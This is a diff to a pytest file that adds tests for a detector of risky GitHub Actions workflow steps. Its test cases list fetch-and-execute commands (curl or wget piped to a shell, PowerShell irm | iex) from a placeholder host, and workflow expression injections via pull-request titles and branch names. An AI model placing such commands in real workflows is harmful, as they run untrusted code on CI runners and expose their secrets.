@@ -1,5 +1,7 @@
 """Releases, licences, schemas, operations, moved files and settings, read from text."""
 
+import time
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -114,6 +116,49 @@ def test_workflows_tell_of_permissions_and_of_triggers_by_strangers():
         ("permissions contents", "read", "write"),
         ("trigger pull_request_target", None, "pull_request_target"),
     }
+
+
+WORKFLOW = "on: push\njobs:\n  build:\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          make\n          {}\n"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -sSf https://x.example/install | sh",
+        "wget -qO- https://x.example/i.sh | sudo -E bash -s -- -y",
+        "bash <(curl -s https://x.example/i)",
+        'sh -c "$(curl -fsSL https://x.example/i)"',
+        "irm https://x.example/i.ps1 | iex",
+        'echo "${{ github.event.pull_request.title }}"',
+        "git switch ${{ github.head_ref }}",
+    ],
+)
+def test_a_workflow_that_runs_what_others_wrote_is_told(command):
+    old, new = WORKFLOW.format("make test"), WORKFLOW.format(command)
+    found = facts_in(".github/workflows/a.yml", old, new)
+    assert [(one.change, one.name, one.public) for one in found] == [("added", f"workflow runs {command}", False)]
+    assert [one.change for one in facts_in(".github/workflows/a.yml", new, old)] == ["removed"]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "make | tee log",
+        "curl -O https://x.example/a.tgz",
+        "echo ${{ github.sha }}",
+        "bash ci/build.sh",
+        "curl x | shasum",
+    ],
+)
+def test_a_workflow_that_runs_its_own_commands_is_not(command):
+    assert facts_in(".github/workflows/a.yml", WORKFLOW.format("make test"), WORKFLOW.format(command)) == []
+
+
+@pytest.mark.parametrize("part", ["curl ", "| sudo ", "${{ github.event.", "sh $( ", "iwr |"])
+def test_long_commands_of_workflows_take_little_time(part):
+    began = time.process_time()
+    facts_in(".github/workflows/a.yml", WORKFLOW.format("make"), WORKFLOW.format(part * 20_000))
+    assert time.process_time() - began < 5
 
 
 def test_hooks_programs_binaries_and_submodules_are_operations():
